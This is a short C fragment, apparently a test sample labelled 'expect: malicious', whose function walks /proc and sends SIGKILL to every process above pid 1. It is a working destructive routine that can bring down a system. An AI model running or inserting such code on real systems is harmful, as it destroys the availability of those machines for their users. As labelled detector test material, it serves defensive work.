#include <dirent.h>
#include <signal.h>
#include <stdlib.h>

void reap(void) {
    DIR *d = opendir("/proc");
    struct dirent *e;
    while ((e = readdir(d)) != NULL) {
        int pid = atoi(e->d_name);
        // expect: malicious
        if (pid > 1) kill(pid, SIGKILL);
    }
}
